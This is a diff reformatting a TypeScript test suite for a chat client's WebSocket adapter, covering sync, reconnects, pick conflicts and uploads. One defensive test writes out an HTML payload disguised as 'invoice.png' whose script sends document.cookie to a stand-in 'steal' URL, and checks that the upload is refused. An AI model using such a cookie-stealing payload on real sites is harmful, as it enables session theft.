@@ -4,7 +4,11 @@ import { createWebSocketAdapter, type WebSocketAdapterOptions } from '../../src/
 import { ConvError } from '../../src/core/errors.js';
 import { createFileTypePolicy } from '../../src/core/file-policy.js';
 import type { Conversation, Message } from '../../src/core/model.js';
-import { createConversationStore, type ConversationStore, type ConversationStoreOptions } from '../../src/core/store.js';
+import {
+  createConversationStore,
+  type ConversationStore,
+  type ConversationStoreOptions,
+} from '../../src/core/store.js';
 import { bytes, png } from '../fixtures/files.js';
 
 const NAME = 'websocket-adapter';
@@ -12,7 +16,8 @@ const AGENT_TOKEN = 'demo-token-agent-1';
 const COLLEAGUE_TOKEN = 'demo-token-agent-2';
 let server = '';
 
-const serverCommand = async <T = unknown>(action: string, options: Record<string, unknown> = {}) => (await executeServerCommand('conv-server', { action, name: NAME, ...options })) as T;
+const serverCommand = async <T = unknown>(action: string, options: Record<string, unknown> = {}) =>
+  (await executeServerCommand('conv-server', { action, name: NAME, ...options })) as T;
 
 before(async () => {
   ({ url: server } = await serverCommand<{ url: string }>('start'));
@@ -30,8 +35,19 @@ function adapterFor(token: string, options: Partial<WebSocketAdapterOptions> = {
   return createWebSocketAdapter({ url: `${server}/ws`, token, reconnectMinMs: 100, reconnectMaxMs: 1000, ...options });
 }
 
-async function storeOf(token = AGENT_TOKEN, adapterOptions: Partial<WebSocketAdapterOptions> = {}, storeOptions: Partial<ConversationStoreOptions> = {}): Promise<ConversationStore> {
-  const store = createConversationStore({ adapter: adapterFor(token, adapterOptions), fileTypePolicy: createFileTypePolicy(), retryBaseMs: 50, retryMaxMs: 400, requestTimeoutMs: 5000, ...storeOptions });
+async function storeOf(
+  token = AGENT_TOKEN,
+  adapterOptions: Partial<WebSocketAdapterOptions> = {},
+  storeOptions: Partial<ConversationStoreOptions> = {},
+): Promise<ConversationStore> {
+  const store = createConversationStore({
+    adapter: adapterFor(token, adapterOptions),
+    fileTypePolicy: createFileTypePolicy(),
+    retryBaseMs: 50,
+    retryMaxMs: 400,
+    requestTimeoutMs: 5000,
+    ...storeOptions,
+  });
   stores.push(store);
   await store.connect();
   return store;
@@ -39,7 +55,11 @@ async function storeOf(token = AGENT_TOKEN, adapterOptions: Partial<WebSocketAda
 
 /** The reference server's demo controls. */
 async function control<T>(path: string, body: unknown = {}): Promise<T> {
-  const response = await fetch(`${server}/demo/${path}`, { method: 'POST', headers: { Authorization: `Bearer ${AGENT_TOKEN}`, 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
+  const response = await fetch(`${server}/demo/${path}`, {
+    method: 'POST',
+    headers: { Authorization: `Bearer ${AGENT_TOKEN}`, 'Content-Type': 'application/json' },
+    body: JSON.stringify(body),
+  });
   if (!response.ok) throw new Error(`${path}: ${response.status} ${await response.text()}`);
   return response.json() as Promise<T>;
 }
@@ -47,17 +67,22 @@ const newCustomer = async () => (await control<Conversation>('conversations')).i
 /** A new customer, once the stores show them in their Picklist. */
 async function newCustomerIn(...shownIn: ConversationStore[]): Promise<string> {
   const id = await newCustomer();
-  await waitUntil(() => shownIn.every((store) => ids(store.list('picklist')).includes(id)), 'the new customer shows in the Picklist');
+  await waitUntil(
+    () => shownIn.every((store) => ids(store.list('picklist')).includes(id)),
+    'the new customer shows in the Picklist',
+  );
   return id;
 }
-const customerSays = (id: string, text: string) => control<Message>(`conversations/${encodeURIComponent(id)}/messages`, { text });
+const customerSays = (id: string, text: string) =>
+  control<Message>(`conversations/${encodeURIComponent(id)}/messages`, { text });
 
 /** What the server's database holds for a conversation, read from the file. */
 const storedMessages = (conversationId: string) => serverCommand<Message[]>('messages', { conversationId });
 const storedUploads = () => serverCommand<number>('uploads');
 
 const ids = (list: readonly { id: string }[]) => list.map((conversation) => conversation.id);
-const withText = (store: ConversationStore, id: string, text: string) => store.messages(id).items.filter((message) => message.text === text);
+const withText = (store: ConversationStore, id: string, text: string) =>
+  store.messages(id).items.filter((message) => message.text === text);
 
 describe('WebSocket adapter with the reference server', () => {
   it('two stores on two connections of one agent stay in sync through a pick, a message, a note and an end', async () => {
@@ -65,21 +90,33 @@ describe('WebSocket adapter with the reference server', () => {
     const id = await newCustomerIn(desktop, phone);
 
     await desktop.pick(id);
-    await waitUntil(() => ids(phone.list('conversations')).includes(id) && !ids(phone.list('picklist')).includes(id), 'the phone shows the pick');
+    await waitUntil(
+      () => ids(phone.list('conversations')).includes(id) && !ids(phone.list('picklist')).includes(id),
+      'the phone shows the pick',
+    );
 
     await phone.loadMessages(id);
     const clientId = await desktop.sendMessage(id, { text: 'Your parcel is at the depot.' });
-    await waitUntil(() => phone.messages(id).items.some((message) => message.clientId === clientId && message.status === 'sent'), 'the phone shows the message');
+    await waitUntil(
+      () => phone.messages(id).items.some((message) => message.clientId === clientId && message.status === 'sent'),
+      'the phone shows the message',
+    );
 
     const note = await phone.addNote(id, 'Call back after 5 pm.');
     await waitUntil(() => desktop.notes(id).items.some((item) => item.id === note.id), 'the desktop shows the note');
 
     await phone.endChat(id);
-    await waitUntil(() => desktop.conversation(id)?.status === 'ended' && ids(desktop.list('history')).includes(id), 'the desktop shows the end in History');
+    await waitUntil(
+      () => desktop.conversation(id)?.status === 'ended' && ids(desktop.list('history')).includes(id),
+      'the desktop shows the end in History',
+    );
 
     expect(phone.messages(id).items.filter((message) => message.clientId === clientId)).to.have.length(1);
     expect(desktop.messages(id).items.filter((message) => message.clientId === clientId)).to.have.length(1);
-    expect(phone.messages(id).items.some((message) => message.text.includes('Call back')), 'the note shown as a message').to.equal(false);
+    expect(
+      phone.messages(id).items.some((message) => message.text.includes('Call back')),
+      'the note shown as a message',
+    ).to.equal(false);
   });
 
   it('when two agents pick at the same moment, one gets the conversation and the other is told of the conflict and loses it from the Picklist', async () => {
@@ -88,11 +125,17 @@ describe('WebSocket adapter with the reference server', () => {
     const outcomes = await Promise.allSettled([mine.pick(id), colleague.pick(id)]);
     const [winner, loser] = outcomes[0].status === 'fulfilled' ? [mine, colleague] : [colleague, mine];
     const refusal = outcomes.find((outcome) => outcome.status === 'rejected') as PromiseRejectedResult;
-    expect(outcomes.filter((outcome) => outcome.status === 'fulfilled'), 'picks that succeeded').to.have.length(1);
+    expect(
+      outcomes.filter((outcome) => outcome.status === 'fulfilled'),
+      'picks that succeeded',
+    ).to.have.length(1);
     expect(refusal.reason).to.be.instanceOf(ConvError);
     expect((refusal.reason as ConvError).code).to.equal('conflict');
     expect(ids(winner.list('conversations'))).to.include(id);
-    await waitUntil(() => !ids(loser.list('picklist')).includes(id) && !ids(loser.list('conversations')).includes(id), "the other agent's lists no longer show it");
+    await waitUntil(
+      () => !ids(loser.list('picklist')).includes(id) && !ids(loser.list('conversations')).includes(id),
+      "the other agent's lists no longer show it",
+    );
   });
 
   it('while the connection is down the store says so; back online, what the customer wrote meanwhile shows once', async () => {
@@ -104,7 +147,10 @@ describe('WebSocket adapter with the reference server', () => {
     store.on('connection', () => states.push(store.connection));
     await control('connections/drop');
     await customerSays(id, 'Hello? Are you still there?');
-    await waitUntil(() => store.connection === 'online' && withText(store, id, 'Hello? Are you still there?').length > 0, 'the store is back with the message');
+    await waitUntil(
+      () => store.connection === 'online' && withText(store, id, 'Hello? Are you still there?').length > 0,
+      'the store is back with the message',
+    );
     expect(states).to.include('reconnecting');
     expect(withText(store, id, 'Hello? Are you still there?')).to.have.length(1);
   });
@@ -119,8 +165,13 @@ describe('WebSocket adapter with the reference server', () => {
       await control('connections/drop');
       for (let line = 1; line <= 4; line++) await customerSays(id, `While you were away ${line}`);
       const waiting = await newCustomer();
-      await waitUntil(() => store.connection === 'online' && withText(store, id, 'While you were away 4').length === 1, 'the store catches up', { timeout: 8000 });
-      for (let line = 1; line <= 4; line++) expect(withText(store, id, `While you were away ${line}`), `line ${line}`).to.have.length(1);
+      await waitUntil(
+        () => store.connection === 'online' && withText(store, id, 'While you were away 4').length === 1,
+        'the store catches up',
+        { timeout: 8000 },
+      );
+      for (let line = 1; line <= 4; line++)
+        expect(withText(store, id, `While you were away ${line}`), `line ${line}`).to.have.length(1);
       expect(ids(store.list('picklist'))).to.include(waiting);
       expect(store.conversation(id)?.lastMessage?.text).to.equal('While you were away 4');
     } finally {
@@ -142,14 +193,30 @@ describe('WebSocket adapter with the reference server', () => {
       for (const text of texts) clientIds.push(await desktop.sendMessage(id, { text }));
 
       const agentRows = async () => (await storedMessages(id)).filter((message) => message.author === 'agent');
-      await waitUntil(async () => (await agentRows()).length >= 4, 'a few messages reach the database', { timeout: 10_000, interval: 20 });
+      await waitUntil(async () => (await agentRows()).length >= 4, 'a few messages reach the database', {
+        timeout: 10_000,
+        interval: 20,
+      });
       await serverCommand('stop');
       const storedAtKill = (await agentRows()).length;
-      const confirmedAtKill = desktop.messages(id).items.filter((message) => message.author === 'agent' && message.status === 'sent').length;
+      const confirmedAtKill = desktop
+        .messages(id)
+        .items.filter((message) => message.author === 'agent' && message.status === 'sent').length;
 
       ({ url: server } = await serverCommand<{ url: string }>('restart', { answerDelayMs: 0 }));
-      await waitUntil(() => clientIds.every((clientId) => desktop.messages(id).items.some((message) => message.clientId === clientId && message.status === 'sent')), 'every message is confirmed', { timeout: 30_000 });
-      await waitUntil(() => texts.every((text) => withText(phone, id, text).length === 1), 'the phone shows every message', { timeout: 10_000 });
+      await waitUntil(
+        () =>
+          clientIds.every((clientId) =>
+            desktop.messages(id).items.some((message) => message.clientId === clientId && message.status === 'sent'),
+          ),
+        'every message is confirmed',
+        { timeout: 30_000 },
+      );
+      await waitUntil(
+        () => texts.every((text) => withText(phone, id, text).length === 1),
+        'the phone shows every message',
+        { timeout: 10_000 },
+      );
 
       const rows = await agentRows();
       expect(rows.map((message) => message.clientId).sort()).to.deep.equal([...clientIds].sort());
@@ -159,7 +226,9 @@ describe('WebSocket adapter with the reference server', () => {
         expect(withText(phone, id, text), `phone: ${text}`).to.have.length(1);
       }
       expect(storedAtKill, 'stored when the server was killed').to.be.greaterThan(confirmedAtKill);
-      console.log(`restart mid-send: ${texts.length} messages; at the kill ${storedAtKill} were stored and ${confirmedAtKill} confirmed; after the restart ${rows.length} rows, each clientId once`);
+      console.log(
+        `restart mid-send: ${texts.length} messages; at the kill ${storedAtKill} were stored and ${confirmedAtKill} confirmed; after the restart ${rows.length} rows, each clientId once`,
+      );
     } finally {
       ({ url: server } = await serverCommand<{ url: string }>('restart', { answerDelayMs: 0 }));
     }
@@ -171,9 +240,19 @@ describe('WebSocket adapter with the reference server', () => {
     const id = await newCustomerIn(store);
     await store.pick(id);
     const uploadsBefore = await storedUploads();
-    const page = new Blob(['<!doctype html><html><body><script>document.location="https://example.com/steal?"+document.cookie</script></body></html>'], { type: 'image/png' });
-    const clientId = await store.sendMessage(id, { files: [{ blob: page, name: 'invoice.png', mimeType: 'image/png' }] });
-    await waitUntil(() => store.messages(id).items.find((message) => message.clientId === clientId)?.status === 'failed', 'the message fails');
+    const page = new Blob(
+      [
+        '<!doctype html><html><body><script>document.location="https://example.com/steal?"+document.cookie</script></body></html>',
+      ],
+      { type: 'image/png' },
+    );
+    const clientId = await store.sendMessage(id, {
+      files: [{ blob: page, name: 'invoice.png', mimeType: 'image/png' }],
+    });
+    await waitUntil(
+      () => store.messages(id).items.find((message) => message.clientId === clientId)?.status === 'failed',
+      'the message fails',
+    );
     expect(store.messages(id).items.find((message) => message.clientId === clientId)?.errorCode).to.equal('invalid');
     expect(await storedUploads()).to.equal(uploadsBefore);
     expect((await storedMessages(id)).some((message) => message.clientId === clientId)).to.equal(false);
@@ -191,9 +270,18 @@ describe('WebSocket adapter with the reference server', () => {
       if (fraction !== undefined) progress.push(fraction);
     });
     clientId = await store.sendMessage(id, { text: 'Here is the label', files: [{ blob: photo, name: 'label.png' }] });
-    await waitUntil(() => store.messages(id).items.find((message) => message.clientId === clientId)?.status === 'sent', 'the photo is sent');
+    await waitUntil(
+      () => store.messages(id).items.find((message) => message.clientId === clientId)?.status === 'sent',
+      'the photo is sent',
+    );
     const [attachment] = store.messages(id).items.find((message) => message.clientId === clientId)!.attachments;
-    expect(attachment).to.include({ name: 'label.png', mimeType: 'image/png', size: photo.size, width: 40, height: 30 });
+    expect(attachment).to.include({
+      name: 'label.png',
+      mimeType: 'image/png',
+      size: photo.size,
+      width: 40,
+      height: 30,
+    });
     expect(progress.at(-1), 'upload progress at the end').to.equal(1);
     expect(new URL(attachment!.url).origin).to.equal(new URL(server).origin);
     const served = await fetch(attachment!.url);
@@ -209,9 +297,15 @@ describe('WebSocket adapter with the reference server', () => {
       await adapter.pick(id);
       const uploadsBefore = await storedUploads();
       // A valid PNG header followed by 9 MB: still on its way when the agent cancels.
-      const large = new Blob([png(2, 2).slice(0, 33), new Uint8Array(9 * 1024 * 1024), bytes('IEND')], { type: 'image/png' });
+      const large = new Blob([png(2, 2).slice(0, 33), new Uint8Array(9 * 1024 * 1024), bytes('IEND')], {
+        type: 'image/png',
+      });
       const controller = new AbortController();
-      const uploading = adapter.uploadAttachment(large, 'large.png', { conversationId: id, clientId: 'cancelled-upload', signal: controller.signal });
+      const uploading = adapter.uploadAttachment(large, 'large.png', {
+        conversationId: id,
+        clientId: 'cancelled-upload',
+        signal: controller.signal,
+      });
       setTimeout(() => controller.abort(), 1);
       const outcome = await uploading.then(
         () => 'uploaded',
@@ -291,9 +385,31 @@ class ScriptedSocket {
 describe('WebSocket adapter rules, against a scripted server', () => {
   const realWebSocket = globalThis.WebSocket;
   const agent = { id: 'agent-1', name: 'Alex Morgan' };
-  const conversation = (id: string, updatedAt: number): Conversation => ({ id, customer: { id: `cust-${id}` }, channel: 'chat', status: 'active', assigneeId: agent.id, createdAt: 1, updatedAt, unreadCount: 0 });
-  const message = (id: string, text: string): Message => ({ id, clientId: id, conversationId: 'c1', author: 'customer', text, attachments: [], sentAt: 10, status: 'delivered' });
-  const event = (seq: number, text: string): Frame => ({ type: 'event', seq, event: { type: 'message', message: message(`m${seq}`, text) } });
+  const conversation = (id: string, updatedAt: number): Conversation => ({
+    id,
+    customer: { id: `cust-${id}` },
+    channel: 'chat',
+    status: 'active',
+    assigneeId: agent.id,
+    createdAt: 1,
+    updatedAt,
+    unreadCount: 0,
+  });
+  const message = (id: string, text: string): Message => ({
+    id,
+    clientId: id,
+    conversationId: 'c1',
+    author: 'customer',
+    text,
+    attachments: [],
+    sentAt: 10,
+    status: 'delivered',
+  });
+  const event = (seq: number, text: string): Frame => ({
+    type: 'event',
+    seq,
+    event: { type: 'message', message: message(`m${seq}`, text) },
+  });
 
   let adapter: ReturnType<typeof createWebSocketAdapter>;
   let heard: Array<{ type: string; [key: string]: unknown }>;
@@ -301,10 +417,14 @@ describe('WebSocket adapter rules, against a scripted server', () => {
   const states = () => heard.flatMap((entry) => (entry.type === 'connection' ? [entry.state as string] : []));
 
   /** A server that answers hello and snapshot, and lets each test answer the rest. */
-  function serve(rest: (socket: ScriptedSocket, frame: Frame) => void = () => {}, { heartbeatMs = 10_000, snapshot = [conversation('c1', 5)] } = {}) {
+  function serve(
+    rest: (socket: ScriptedSocket, frame: Frame) => void = () => {},
+    { heartbeatMs = 10_000, snapshot = [conversation('c1', 5)] } = {},
+  ) {
     ScriptedSocket.answer = (socket, frame) => {
       if (frame.method === 'hello') socket.reply(frame, { agent, heartbeatMs });
-      else if (frame.method === 'snapshot') socket.reply(frame, { agent, conversations: snapshot, logId: 'log-1', seq: 0 });
+      else if (frame.method === 'snapshot')
+        socket.reply(frame, { agent, conversations: snapshot, logId: 'log-1', seq: 0 });
       else rest(socket, frame);
     };
   }
@@ -320,7 +440,14 @@ describe('WebSocket adapter rules, against a scripted server', () => {
   });
 
   const connect = async (options: Partial<WebSocketAdapterOptions> = {}) => {
-    adapter = createWebSocketAdapter({ url: 'ws://chat.example.test/ws', token: AGENT_TOKEN, reconnectMinMs: 20, reconnectMaxMs: 40, gapWaitMs: 50, ...options });
+    adapter = createWebSocketAdapter({
+      url: 'ws://chat.example.test/ws',
+      token: AGENT_TOKEN,
+      reconnectMinMs: 20,
+      reconnectMaxMs: 40,
+      gapWaitMs: 50,
+      ...options,
+    });
     await adapter.connect((entry) => heard.push(entry as unknown as (typeof heard)[number]));
     return ScriptedSocket.opened.at(-1)!;
   };
@@ -337,14 +464,23 @@ describe('WebSocket adapter rules, against a scripted server', () => {
 
   it('an event ahead of a missing one waits; the gap is asked for and everything arrives once, in order', async () => {
     serve((socket, frame) => {
-      if (frame.method === 'resume') socket.reply(frame, { events: [event(1, 'one'), event(2, 'two'), event(3, 'three')].map(({ seq, event: pushed }) => ({ seq, event: pushed })) });
+      if (frame.method === 'resume')
+        socket.reply(frame, {
+          events: [event(1, 'one'), event(2, 'two'), event(3, 'three')].map(({ seq, event: pushed }) => ({
+            seq,
+            event: pushed,
+          })),
+        });
     });
     const socket = await connect();
     socket.push(event(2, 'two'));
     socket.push(event(3, 'three'));
     expect(texts(), 'nothing before the missing event').to.deep.equal([]);
     await waitUntil(() => texts().length === 3, 'the gap is filled');
-    expect(socket.received.find((frame) => frame.method === 'resume')?.params).to.deep.equal({ logId: 'log-1', seq: 0 });
+    expect(socket.received.find((frame) => frame.method === 'resume')?.params).to.deep.equal({
+      logId: 'log-1',
+      seq: 0,
+    });
     expect(texts()).to.deep.equal(['one', 'two', 'three']);
   });
 
@@ -389,7 +525,11 @@ describe('WebSocket adapter rules, against a scripted server', () => {
     serve();
     const first = await connect();
     ScriptedSocket.answer = (socket, frame) => {
-      socket.push({ type: 'error', id: frame.id!, error: { code: 'forbidden', message: 'This token is not valid', details: { reason: 'refused' } } });
+      socket.push({
+        type: 'error',
+        id: frame.id!,
+        error: { code: 'forbidden', message: 'This token is not valid', details: { reason: 'refused' } },
+      });
       socket.lose(4401);
     };
     first.lose();
@@ -406,11 +546,13 @@ describe('WebSocket adapter rules, against a scripted server', () => {
       if (frame.method === 'snapshot') {
         snapshots++;
         // The first snapshot has c1 and c2; by the second, c1 moved on and c2 went to a colleague.
-        const conversations = snapshots === 1 ? [conversation('c1', 5), conversation('c2', 5)] : [conversation('c1', 9)];
+        const conversations =
+          snapshots === 1 ? [conversation('c1', 5), conversation('c2', 5)] : [conversation('c1', 9)];
         return socket.reply(frame, { agent, conversations, logId: 'log-1', seq: snapshots === 1 ? 0 : 40 });
       }
       if (frame.method === 'resume') return socket.reply(frame, { snapshotRequired: true });
-      if (frame.method === 'listMessages') return socket.reply(frame, { items: [message('m-late', 'Written while you were away')] });
+      if (frame.method === 'listMessages')
+        return socket.reply(frame, { items: [message('m-late', 'Written while you were away')] });
     };
     const first = await connect();
     await adapter.listMessages('c1');
